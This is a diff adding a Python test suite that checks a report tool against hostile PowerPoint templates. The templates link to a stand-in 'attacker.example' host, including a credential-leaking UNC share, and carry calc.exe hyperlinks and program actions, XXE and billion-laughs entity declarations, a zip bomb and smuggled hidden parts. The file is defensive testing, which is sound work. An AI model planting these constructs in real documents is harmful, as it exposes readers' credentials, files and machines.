@@ -1,0 +1,390 @@
+"""A `--template` deck built to get past the look: each is reduced to its look, or refused with exit 2.
+
+A template is a file someone else made. Its document properties can sit under other names than
+docProps/; its master can fetch a picture from a web server or a Windows share when the deck is
+shown; a part can be smuggled in under a kind of relationship the look keeps (a slide as a layout, a
+data store as a theme, a picture nothing shows); shapes can hide, and so can alternative text,
+comments and extensions; an XML part can declare entities that read a local file or blow up; and a
+template can be broken, enormous, or not a file at all. Each template here is python-pptx's own deck
+with one such change made in its zip, as an attacker would make it.
+"""
+
+from __future__ import annotations
+
+import io
+import os
+import re
+import subprocess
+import sys
+import zipfile
+
+import pytest
+from pptx import Presentation
+from typer.testing import CliRunner
+
+from _report_repo import ACCOUNT, copy_plain
+from conftest import TODAY
+from test_report_deck_template import SOFFICE, every_part
+
+REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+PML = "application/vnd.openxmlformats-officedocument.presentationml."
+MASTER = "ppt/slideMasters/slideMaster1.xml"
+THEME = "ppt/theme/theme1.xml"
+PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000") + b"SECRET-PICTURE-BYTES"
+
+
+def package() -> dict[str, bytes]:
+    """python-pptx's own deck, part by part."""
+    buf = io.BytesIO()
+    Presentation().save(buf)
+    with zipfile.ZipFile(buf) as z:
+        return {n: z.read(n) for n in z.namelist()}
+
+
+def relate(parts, owner: str, rid: str, reltype: str, target: str, external: bool = False) -> None:
+    folder, file = owner.rsplit("/", 1) if "/" in owner else ("", owner)
+    name = f"{folder}/_rels/{file}.rels" if folder else f"_rels/{file}.rels"
+    parts.setdefault(name, b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships '
+                           b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>')
+    mode = ' TargetMode="External"' if external else ""
+    parts[name] = parts[name].replace(
+        b"</Relationships>", f'<Relationship Id="{rid}" Type="{reltype}" Target="{target}"{mode}/></Relationships>'.encode())
+
+
+def typed(parts, name: str, ctype: str) -> None:
+    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
+        b"</Types>", f'<Override PartName="/{name}" ContentType="{ctype}"/></Types>'.encode())
+
+
+def on_master(parts, xml: bytes) -> None:
+    parts[MASTER] = parts[MASTER].replace(b"</p:spTree>", xml + b"</p:spTree>", 1)
+
+
+def save(path, parts, extra=()) -> None:
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
+        for name, body in [*parts.items(), *extra]:
+            z.writestr(name, body)
+
+
+@pytest.fixture(scope="module")
+def portfolio(tmp_path_factory):
+    return copy_plain(tmp_path_factory.mktemp("hostile-template") / "portfolio")
+
+
+@pytest.fixture
+def client_deck(portfolio, tmp_path, monkeypatch):
+    """Make the client's deck on the template `parts`: (exit code, output, the deck's bytes or None)."""
+    from kaplan.cli.app import app
+
+    def make(parts, extra=()):
+        template = tmp_path / "company.pptx"
+        save(template, parts, extra)
+        out = tmp_path / "client.pptx"
+        monkeypatch.chdir(portfolio)
+        r = CliRunner().invoke(app, ["report", ACCOUNT, "--audience", "client", "-f", "pptx", "--template",
+                                     str(template), "--today", TODAY.isoformat(), "-o", str(out)])
+        return r.exit_code, r.output, out.read_bytes() if out.exists() else None
+
+    return make
+
+
+def no_secret(data: bytes) -> dict[str, bytes]:
+    parts = every_part(data)
+    for name, body in parts.items():
+        assert b"SECRET" not in body, (name, re.findall(rb"SECRET[-\w]*", body))
+    return parts
+
+
+def test_the_templates_properties_are_dropped_wherever_they_are_and_the_packs_written(client_deck):
+    """core.xml and app.xml under other names (the package's relationships say where), and custom properties."""
+    parts = package()
+    core, app = parts.pop("docProps/core.xml"), parts.pop("docProps/app.xml")
+    parts["meta/c.xml"] = re.sub(rb"<dc:title>.*?</dc:title>|<dc:title/>", b"", core).replace(
+        b"</cp:coreProperties>", b"<dc:title>SECRET-TITLE</dc:title><dc:creator>SECRET-AUTHOR</dc:creator>"
+                                 b"<cp:keywords>SECRET-KEYWORDS</cp:keywords></cp:coreProperties>")
+    parts["meta/a.xml"] = app.replace(b"</Properties>", b"<Company>SECRET-COMPANY</Company>"
+                                                        b"<HyperlinkBase>file://///host/SECRET-BASE</HyperlinkBase></Properties>")
+    parts["_rels/.rels"] = parts["_rels/.rels"].replace(b'Target="docProps/core.xml"', b'Target="/meta/c.xml"').replace(
+        b'Target="docProps/app.xml"', b'Target="meta/a.xml"')
+    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"/docProps/core.xml", b"/meta/c.xml").replace(
+        b"/docProps/app.xml", b"/meta/a.xml")
+    parts["meta/u.xml"] = (b'<?xml version="1.0" encoding="UTF-8"?><Properties xmlns="http://schemas.openxmlformats.org/'
+                           b'officeDocument/2006/custom-properties" xmlns:vt="http://schemas.openxmlformats.org/'
+                           b'officeDocument/2006/docPropsVTypes"><property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}"'
+                           b' pid="2" name="Deal"><vt:lpwstr>SECRET-CUSTOM</vt:lpwstr></property></Properties>')
+    typed(parts, "meta/u.xml", "application/vnd.openxmlformats-officedocument.custom-properties+xml")
+    relate(parts, ".rels", "rId90", REL + "custom-properties", "meta/u.xml")
+    code, output, deck = client_deck(parts)
+    assert code == 0, output
+    made = no_secret(deck)
+    assert not any(name.startswith("meta/") for name in made)
+    rels = made["_rels/.rels"].decode()
+    assert rels.count("core-properties") == 1 and rels.count("extended-properties") == 1 and "custom" not in rels
+    assert "/meta/" not in made["[Content_Types].xml"].decode()
+    prs = Presentation(io.BytesIO(deck))
+    assert prs.core_properties.title == "Acme Retail Group · progress report · 2026-11-24"
+    assert prs.core_properties.author == "" and prs.core_properties.keywords == ""
+
+
+def test_nothing_outside_the_file_is_reached_from_a_deck(client_deck):
+    """A master whose background is a picture on a Windows share (a reader hands the share its
+    credentials), a picture fetched from a web server, a picture both embedded and linked, and links
+    whose relationships claim to be pictures: no relationship of the deck leads outside it."""
+    parts = package()
+    parts["ppt/media/logo.png"] = PNG.replace(b"SECRET-PICTURE-BYTES", b"company logo")
+    typed(parts, "ppt/media/logo.png", "image/png")
+    relate(parts, MASTER, "rId90", REL + "image", "file://///attacker.example/share/SECRET-UNC.png", external=True)
+    relate(parts, MASTER, "rId91", REL + "image", "https://attacker.example/SECRET-BEACON.png", external=True)
+    relate(parts, MASTER, "rId92", REL + "image", "../media/logo.png")
+    relate(parts, MASTER, "rId93", REL + "image", "https://attacker.example/SECRET-LINK", external=True)
+    relate(parts, MASTER, "rId94", REL + "image", "file:///C:/Windows/System32/calc.exe", external=True)
+    parts[MASTER] = parts[MASTER].replace(b"<p:cSld>", b'<p:cSld><p:bg><p:bgPr><a:blipFill><a:blip r:link="rId90"/>'
+                                          b'<a:stretch><a:fillRect/></a:stretch></a:blipFill><a:effectLst/></p:bgPr></p:bg>', 1)
+    parts[MASTER] = re.sub(rb"<p:bg>\s*<p:bgRef.*?</p:bg>", b"", parts[MASTER], count=1, flags=re.S)
+
+    def picture(n: int, blip: str) -> bytes:
+        return (f'<p:pic><p:nvPicPr><p:cNvPr id="{n}" name="pic {n}"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill>'
+                f'<a:blip {blip}/><a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr><a:xfrm><a:off x="0" y="0"/>'
+                f'<a:ext cx="914400" cy="914400"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr>'
+                f'</p:pic>').encode()
+    on_master(parts, picture(70, 'r:link="rId91"') + picture(71, 'r:embed="rId92" r:link="rId90"')
+              + b'<p:sp><p:nvSpPr><p:cNvPr id="72" name="footer"><a:hlinkClick r:id="rId94"/></p:cNvPr><p:cNvSpPr '
+                b'txBox="1"/><p:nvPr/></p:nvSpPr><p:spPr/><p:txBody><a:bodyPr/><a:lstStyle/><a:p><a:r><a:rPr lang="en-US">'
+                b'<a:hlinkClick r:id="rId93" tooltip="SECRET-TOOLTIP"/></a:rPr><a:t>Acme Corp</a:t></a:r><a:r><a:rPr>'
+                b'<a:hlinkClick r:id="" action="ppaction://program?file=calc.exe"/></a:rPr><a:t> run</a:t></a:r>'
+                b'</a:p></p:txBody></p:sp>')
+    code, output, deck = client_deck(parts)
+    assert code == 0, output
+    made = no_secret(deck)
+    for name, body in made.items():
+        if name.endswith(".rels"):
+            assert b'TargetMode="External"' not in body, name
+        assert b"attacker" not in body and b"calc.exe" not in body and b"ppaction" not in body, name
+    master = made[MASTER].decode()
+    assert "r:link" not in master and "hlinkClick" not in master and "<p:bg>" not in master
+    # the picture both embedded and linked keeps what it embeds; the footer keeps its words
+    prs = Presentation(io.BytesIO(deck))
+    shapes = [sh for sh in prs.slide_master.shapes if not sh.is_placeholder]
+    assert [sh.shape_type.name for sh in shapes] == ["PICTURE", "TEXT_BOX"]
+    assert b"company logo" in shapes[0].image.blob
+    assert shapes[1].text_frame.text == "Acme Corp run"
+
+
+def test_parts_smuggled_under_the_kinds_the_look_keeps_are_dropped(client_deck):
+    """A slide the master lists as a layout, and one it relates as a layout without listing it; a data
+    store the presentation relates as its theme; a picture the theme relates but shows nowhere; a
+    layout that is the theme; a layout listed twice; a master and a layout listed that are not there."""
+    parts = package()
+    slide = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><p:sld xmlns:a="http://schemas.openxmlformats.org/'
+             b'drawingml/2006/main" xmlns:r="' + REL[:-1].encode() + b'" xmlns:p="http://schemas.openxmlformats.org/'
+             b'presentationml/2006/main"><p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/>'
+             b'</p:nvGrpSpPr><p:grpSpPr/><p:sp><p:nvSpPr><p:cNvPr id="2" name="t"/><p:cNvSpPr txBox="1"/><p:nvPr/>'
+             b'</p:nvSpPr><p:spPr/><p:txBody><a:bodyPr/><a:p><a:r><a:t>SECRET-SMUGGLED-SLIDE</a:t></a:r></a:p>'
+             b'</p:txBody></p:sp></p:spTree></p:cSld></p:sld>')
+    for n in (1, 2):
+        parts[f"ppt/slides/hidden{n}.xml"] = slide
+        typed(parts, f"ppt/slides/hidden{n}.xml", PML + "slide+xml")
+        relate(parts, f"ppt/slides/hidden{n}.xml", "rId1", REL + "slideLayout", "../slideLayouts/slideLayout1.xml")
+    relate(parts, MASTER, "rId97", REL + "slideLayout", "../slides/hidden1.xml")
+    relate(parts, MASTER, "rId98", REL + "slideLayout", "../slides/hidden2.xml")
+    relate(parts, MASTER, "rId99", REL + "slideLayout", "../theme/theme1.xml")
+    parts[MASTER] = parts[MASTER].replace(
+        b"<p:sldLayoutIdLst>", b'<p:sldLayoutIdLst><p:sldLayoutId id="2147483690" r:id="rId99"/>'
+                               b'<p:sldLayoutId id="2147483691" r:id="rId97"/><p:sldLayoutId id="2147483692" r:id="rId1"/>', 1)
+    parts[MASTER] = parts[MASTER].replace(b"</p:sldLayoutIdLst>",
+                                          b'<p:sldLayoutId id="2147483693" r:id="rId77"/></p:sldLayoutIdLst>', 1)
+    parts["ppt/presentation.xml"] = parts["ppt/presentation.xml"].replace(
+        b"<p:sldMasterIdLst>", b'<p:sldMasterIdLst><p:sldMasterId id="2147483600" r:id="rId77"/>', 1)
+    parts["customXml/item9.xml"] = b"<pricing>SECRET-CUSTOMXML-AS-THEME</pricing>"
+    relate(parts, "ppt/presentation.xml", "rId96", REL + "theme", "../customXml/item9.xml")
+    parts["ppt/media/unused.png"] = PNG
+    typed(parts, "ppt/media/unused.png", "image/png")
+    relate(parts, THEME, "rId95", REL + "image", "../media/unused.png")
+    code, output, deck = client_deck(parts)
+    assert code == 0, output
+    made = no_secret(deck)
+    assert not any(name.startswith(("customXml", "ppt/media/unused", "ppt/slides/hidden")) for name in made)
+    prs = Presentation(io.BytesIO(deck))
+    assert len(prs.slide_layouts) == 11  # python-pptx's own, each once
+    assert len({id(layout.part) for layout in prs.slide_layouts}) == 11
+
+
+def test_what_a_master_does_not_show_is_taken_out_and_names_to_pick_by_stay(client_deck):
+    """A hidden shape, alternative text, comments, processing instructions and extensions on the
+    master, a layout and the theme; the layout's and the theme's names are kept."""
+    parts = package()
+    on_master(parts, b'<p:sp><p:nvSpPr><p:cNvPr id="99" name="SECRET-SHAPENAME" hidden="1"/><p:cNvSpPr txBox="1"/>'
+                     b'<p:nvPr/></p:nvSpPr><p:spPr/><p:txBody><a:bodyPr/><a:lstStyle/><a:p><a:r><a:t>SECRET-HIDDEN-TEXT'
+                     b'</a:t></a:r></a:p></p:txBody></p:sp><p:sp><p:nvSpPr><p:cNvPr id="98" name="SECRET-NAME" '
+                     b'descr="SECRET-ALT-TEXT" title="SECRET-ALT-TITLE"/><p:cNvSpPr txBox="1"/><p:nvPr/></p:nvSpPr>'
+                     b'<p:spPr/><p:txBody><a:bodyPr/><a:lstStyle/><a:p><a:r><a:t>before<!-- SECRET-IN-TEXT -->after'
+                     b'</a:t></a:r></a:p></p:txBody></p:sp>')
+    parts[MASTER] = parts[MASTER].replace(b"<p:cSld>", b"<!-- SECRET-COMMENT --><?secret SECRET-PI?><p:cSld>", 1)
+    parts[MASTER] = parts[MASTER].replace(b"</p:sldMaster>", b'<p:extLst><p:ext uri="{SECRET-EXT}"><x:s xmlns:x="urn:x">'
+                                                            b'SECRET-EXTLST</x:s></p:ext></p:extLst></p:sldMaster>')
+    layout = "ppt/slideLayouts/slideLayout2.xml"
+    parts[layout] = re.sub(rb'<p:cSld name="[^"]*"', b'<p:cSld name="Acme Title and Content"', parts[layout], count=1)
+    parts[layout] = parts[layout].replace(b"<p:spTree>", b"<p:spTree><!-- SECRET-LAYOUT-COMMENT -->", 1)
+    parts[THEME] = parts[THEME].replace(b'name="Office Theme"', b'name="Acme Theme"', 1).replace(
+        b"<a:themeElements>", b"<!-- SECRET-THEME-COMMENT --><a:themeElements>", 1).replace(
+        b"</a:theme>", b'<a:extLst><a:ext uri="{SECRET-THEME-EXT}"><x:s xmlns:x="urn:x">SECRET-THEME-EXTLST</x:s>'
+                       b'</a:ext></a:extLst></a:theme>')
+    code, output, deck = client_deck(parts)
+    assert code == 0, output
+    made = no_secret(deck)
+    assert b"Acme Theme" in made[THEME]
+    prs = Presentation(io.BytesIO(deck))
+    assert "Acme Title and Content" in [layout.name for layout in prs.slide_layouts]
+    shown = [sh for sh in prs.slide_master.shapes if not sh.is_placeholder]
+    assert [sh.text_frame.text for sh in shown] == ["beforeafter"]  # the comment's own text gone, the rest kept
+    assert shown[0].name == "Shape 98"
+
+
+@pytest.mark.parametrize("kind", ["external", "billion-laughs"])
+def test_an_xml_part_that_declares_a_doctype_is_refused(client_deck, tmp_path, kind):
+    """An external entity would copy a local file into the deck (lxml < 5 resolved them); nested
+    internal ones multiply a few bytes into gigabytes. No Office part declares a DOCTYPE."""
+    secret = tmp_path / "secret.txt"
+    secret.write_text("SECRET-LOCAL-FILE")
+    parts = package()
+    body = re.sub(rb"^<\?xml[^>]*\?>\s*", b"", parts[THEME])
+    if kind == "external":
+        doctype = f'<!DOCTYPE a:theme [<!ENTITY x SYSTEM "{secret.as_uri()}">]>'.encode()
+    else:
+        doctype = (b'<!DOCTYPE a:theme [<!ENTITY a "aaaaaaaaaa">'
+                   + b"".join(b'<!ENTITY %c "%s">' % (98 + i, (b"&%c;" % (97 + i)) * 10) for i in range(8)) + b"]>")
+    parts[THEME] = b'<?xml version="1.0"?>' + doctype + body.replace(b'name="Office Theme"', b'name="&x;"'
+                                                                      if kind == "external" else b'name="&i;"', 1)
+    relate(parts, THEME, "rId5", REL + "hyperlink", "https://example.invalid/", external=True)
+    code, output, deck = client_deck(parts)
+    assert code == 2 and deck is None, output
+    assert "company.pptx" in output and "ppt/theme/theme1.xml" in output and "Traceback" not in output
+    assert "SECRET" not in output
+
+
+def _drop_layouts(parts):
+    parts[MASTER] = re.sub(rb"<p:sldLayoutIdLst>.*?</p:sldLayoutIdLst>", b"", parts[MASTER], flags=re.S)
+    rels = "ppt/slideMasters/_rels/slideMaster1.xml.rels"
+    parts[rels] = re.sub(rb'<Relationship Id="rId\d+" Type="[^"]*slideLayout" Target="[^"]*"/>', b"", parts[rels])
+
+
+def _size(cx: str):
+    def change(parts):
+        parts["ppt/presentation.xml"] = re.sub(rb"<p:sldSz[^>]*/>", f'<p:sldSz cx="{cx}" cy="6858000"/>'.encode(),
+                                               parts["ppt/presentation.xml"])
+    return change
+
+
+def _set(name: str, body: bytes):
+    def change(parts):
+        parts[name] = body
+    return change
+
+
+BROKEN = {
+    "no layouts": (_drop_layouts, "its slide master has no layouts"),
+    "no master": (lambda parts: parts.__setitem__("ppt/presentation.xml", re.sub(
+        rb"<p:sldMasterIdLst>.*?</p:sldMasterIdLst>", b"", parts["ppt/presentation.xml"])), "it has no slide master"),
+    "no slide size": (lambda parts: parts.__setitem__("ppt/presentation.xml", re.sub(
+        rb"<p:sldSz[^>]*/>", b"", parts["ppt/presentation.xml"])), "it has no slide size"),
+    "letters for a size": (_size("abc"), "its slide size cx='abc'"),
+    "a negative size": (_size("-5"), "its slide size cx='-5'"),
+    "a theme that is not XML": (lambda parts: parts.__setitem__(THEME, parts[THEME][:-50]),
+                                "ppt/theme/theme1.xml is not well-formed XML"),
+    "table styles that are not XML": (_set("ppt/tableStyles.xml", b"<a:tblStyleLst"),
+                                      "ppt/tableStyles.xml is not well-formed XML"),
+    "a zip bomb": (_set("ppt/printerSettings/printerSettings1.bin", bytes(2 * 1024 * 1024)),
+                   "is compressed 1,0"),  # 2 MiB of zeros deflate to about 2 KB
+}
+
+
+@pytest.mark.parametrize("case", list(BROKEN))
+def test_a_template_that_cannot_make_a_deck_is_a_usage_error_naming_it(client_deck, case):
+    change, words = BROKEN[case]
+    parts = package()
+    change(parts)
+    code, output, deck = client_deck(parts)
+    assert code == 2 and deck is None, output
+    assert f"company.pptx: " in output and words in output and "Traceback" not in output, output
+
+
+def test_a_template_with_two_parts_of_one_name_is_refused(client_deck):
+    """Readers disagree on which of two same-named parts is the deck: the other could carry anything."""
+    parts = package()
+    copy = parts[MASTER].replace(b"</p:spTree>", b"<p:sp><p:nvSpPr><p:cNvPr id='99' name='x'/><p:cNvSpPr/><p:nvPr/>"
+                                                 b"</p:nvSpPr><p:spPr/></p:sp></p:spTree>", 1)
+    import warnings
+
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")  # zipfile warns of the duplicate it is asked to write
+        code, output, deck = client_deck(parts, extra=[(MASTER, copy)])
+    assert code == 2 and deck is None and f"two parts named {MASTER}" in output, output
+
+
+def test_a_picture_that_is_an_archive_of_archives_costs_no_recursion(client_deck):
+    """The master shows a "picture" named .xlsx that is a zip holding a zip… 2,000 levels deep: the
+    deck's own workbooks are settled (dated) one level deep, and only they."""
+    inner = b"SECRET-DEEPEST"
+    for _ in range(2000):
+        buf = io.BytesIO()
+        with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
+            z.writestr("x.xlsx", inner)
+        inner = buf.getvalue()
+    parts = package()
+    parts["ppt/media/logo.xlsx"] = inner
+    typed(parts, "ppt/media/logo.xlsx", "image/png")
+    relate(parts, MASTER, "rId90", REL + "image", "../media/logo.xlsx")
+    on_master(parts, b'<p:pic><p:nvPicPr><p:cNvPr id="70" name="logo"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill>'
+                     b'<a:blip r:embed="rId90"/><a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr><a:xfrm>'
+                     b'<a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/>'
+                     b'</a:prstGeom></p:spPr></p:pic>')
+    code, output, deck = client_deck(parts)
+    assert code == 0, output
+    with zipfile.ZipFile(io.BytesIO(deck)) as z:
+        logo = next(name for name in z.namelist() if name.endswith(".xlsx") and "media" in name)
+        assert len(z.read(logo)) == len(parts["ppt/media/logo.xlsx"])
+
+
+@pytest.mark.parametrize("what", ["fifo", "dev-zero", "folder"])
+def test_only_a_regular_file_is_read_as_a_template(portfolio, tmp_path, what):
+    """A named pipe would be waited on forever, /dev/zero read forever: both refused before a byte is read."""
+    if what == "fifo":
+        template = tmp_path / "company.pptx"
+        os.mkfifo(template)
+    elif what == "dev-zero":
+        template = "/dev/zero"
+        if not os.path.exists(template):
+            pytest.skip("no /dev/zero here")
+    else:
+        template = tmp_path
+    r = subprocess.run([sys.executable, "-c", "from kaplan.cli.app import main; main()", "report", ACCOUNT,
+                        "--audience", "client", "-f", "pptx", "--template", str(template), "--today",
+                        TODAY.isoformat(), "-o", str(tmp_path / "client.pptx")],
+                       cwd=portfolio, capture_output=True, text=True, timeout=60)
+    assert r.returncode == 2, r.stderr
+    assert f"--template {template}: not a file" in r.stderr and "Traceback" not in r.stderr
+    assert not (tmp_path / "client.pptx").exists()
+
+
+@pytest.mark.skipif(SOFFICE is None, reason="no LibreOffice to convert the deck with")
+def test_libreoffice_converts_a_deck_made_on_a_template_reduced_this_way(client_deck, tmp_path):
+    """The reductions leave a package a real reader opens: external pictures, links, hidden shapes,
+    smuggled parts and renamed properties all at once."""
+    from pypdf import PdfReader
+
+    from test_report_office import convert
+
+    parts = package()
+    relate(parts, MASTER, "rId90", REL + "image", "https://example.invalid/SECRET-BEACON.png", external=True)
+    on_master(parts, b'<p:pic><p:nvPicPr><p:cNvPr id="70" name="SECRET-logo" descr="SECRET"/><p:cNvPicPr/><p:nvPr/>'
+                     b'</p:nvPicPr><p:blipFill><a:blip r:link="rId90"/><a:stretch><a:fillRect/></a:stretch></p:blipFill>'
+                     b'<p:spPr/></p:pic><p:sp><p:nvSpPr><p:cNvPr id="71" name="x" hidden="1"/><p:cNvSpPr/><p:nvPr/>'
+                     b'</p:nvSpPr><p:spPr/></p:sp>')
+    relate(parts, "ppt/presentation.xml", "rId96", REL + "theme", "slideMasters/slideMaster1.xml")
+    code, output, deck = client_deck(parts)
+    assert code == 0, output
+    no_secret(deck)
+    path = tmp_path / "made.pptx"
+    path.write_bytes(deck)
+    pdf = PdfReader(convert(path, tmp_path))
+    assert len(pdf.pages) == len(Presentation(path).slides)
